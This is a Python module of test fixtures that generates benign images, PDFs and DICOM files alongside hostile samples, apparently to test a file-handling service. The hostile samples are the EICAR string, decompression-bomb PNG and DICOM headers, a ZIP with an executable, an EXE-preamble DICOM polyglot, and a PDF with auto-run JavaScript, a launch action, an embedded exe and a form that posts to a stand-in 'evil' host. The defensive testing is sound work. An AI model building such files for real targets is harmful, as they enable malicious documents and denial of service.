"""Files made for the scenes: good ones, and those that somebody with bad intentions would send."""

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
import pillow_heif
import pydicom
from PIL import Image
from pydicom.dataset import FileMetaDataset
from pydicom.uid import ExplicitVRLittleEndian, generate_uid

NORTH = {1: "N", 2: (47.0, 22.0, 10.0), 3: "E", 4: (8.0, 32.0, 30.0)}
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40), **options: Any) -> bytes:
    """Four quarters in four colours, so that turning and cropping show."""
    image = Image.new("RGB", size, "white")
    width, height = size[0] // 2, size[1] // 2
    image.paste("red", (0, 0, width, height))
    image.paste("green", (width, 0, size[0], height))
    image.paste("blue", (0, height, width, size[1]))
    written = io.BytesIO()
    image.save(written, kind, **options)
    return written.getvalue()


def photo() -> bytes:
    """A JPEG lying on its side, with the place where it was taken and a camera's owner."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90 degrees
    exif[0x8825] = NORTH
    exif[0x010F] = "Camera of Hans Muster"
    return picture("JPEG", exif=exif, comment=b"taken at home")


def heic() -> bytes:
    """As telephones take it."""
    written = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (64, 48), "green")).save(written)
    return written.getvalue()


def gif() -> bytes:
    """Two pictures that take turns."""
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green")]
    written = io.BytesIO()
    frames[0].save(written, "GIF", save_all=True, append_images=frames[1:], duration=80)
    return written.getvalue()


def vast_png() -> bytes:
    """A PNG of a few hundred bytes that says it has 2,500 megapixels."""
    header = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in ((b"IHDR", header), (b"IDAT", body), (b"IEND", b""))
    )


def archive() -> bytes:
    """A ZIP with a program."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as made:
        made.writestr("run.exe", b"MZ")
    return written.getvalue()


def pdf(pages: int = 1, **root: Any) -> bytes:
    """Empty pages, and what is to stand in its catalogue."""
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(595, 842))
    for name, value in root.items():
        made.Root[f"/{name}"] = value
    written = io.BytesIO()
    made.save(written)
    return written.getvalue()


def acting_pdf() -> bytes:
    """Scripts, a launch, a file in it, a form that posts: everything that a PDF can do."""
    made = pikepdf.new()
    made.add_blank_page()
    name, words = pikepdf.Name, pikepdf.Dictionary
    script = words(Type=name.Action, S=name.JavaScript, JS="app.alert('evil-script')")
    made.Root.OpenAction = script
    made.Root.AA = words(WC=script)
    launch = words(S=name.Launch, F="evil-launch.exe")
    link = words(Type=name.Annot, Subtype=name.Link, Rect=[0, 0, 9, 9], A=launch)
    post = words(S=name.SubmitForm, F="https://evil.example.org/")
    button = words(Type=name.Annot, Subtype=name.Widget, FT=name.Btn, Rect=[0, 0, 9, 9], A=post)
    made.pages[0].Annots = pikepdf.Array([link, made.make_indirect(button)])
    made.Root.AcroForm = words(Fields=[], XFA=made.make_stream(b"<evil-xfa/>"))
    made.attachments["evil-inside.exe"] = b"MZ evil-bytes"
    written = io.BytesIO()
    made.save(written)
    return written.getvalue()


def locked_pdf() -> bytes:
    """One that opens only with a password."""
    made = pikepdf.new()
    made.add_blank_page()
    written = io.BytesIO()
    made.save(written, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    return written.getvalue()


def x_ray(side: int = 64, bits: int = 16, **values: Any) -> bytes:
    """A DICOM picture with everything that says whose it is."""
    one = pydicom.Dataset()
    one.PatientName, one.PatientID, one.PatientBirthDate = "Muster^Hans", "756.1234", "19700101"
    one.ReferringPhysicianName, one.InstitutionName = "Weiss^Dora", "Spital Musterstadt"
    one.StudyDate, one.AccessionNumber = "20260102", "A-4711"
    one.StudyDescription = "Knee of Hans Muster"
    one.SOPClassUID, one.SOPInstanceUID = "1.2.840.10008.5.1.4.1.1.1", generate_uid()
    one.StudyInstanceUID = "1.2.3.4.5.6.7.8.9"
    one.Modality, one.BodyPartExamined = "DX", "KNEE"
    one.private_block(0x0099, "Maker", create=True).add_new(0x01, "LO", "Muster private")
    one.Rows = one.Columns = side
    one.SamplesPerPixel, one.PhotometricInterpretation = 1, "MONOCHROME2"
    one.BitsAllocated, one.BitsStored, one.HighBit, one.PixelRepresentation = bits, 12, 11, 0
    if bits == 8:
        one.BitsStored, one.HighBit = 8, 7
    one.WindowCenter, one.WindowWidth = 1000, 2000
    step = bits // 8
    count = min(side, 256) ** 2
    one.PixelData = b"".join((i % 4096 % 2**bits).to_bytes(step, "little") for i in range(count))
    for keyword, value in values.items():
        setattr(one, keyword, value)
    one.file_meta = FileMetaDataset()
    one.file_meta.TransferSyntaxUID = ExplicitVRLittleEndian
    written = io.BytesIO()
    one.save_as(written, enforce_file_format=True)
    # A program in front: the preamble may hold anything.
    return b"MZ" + b"\x90" * 126 + written.getvalue()[128:]


def vast_x_ray() -> bytes:
    """It says that it has 3,600 megapixels."""
    return x_ray(side=60_000, BitsStored=12)
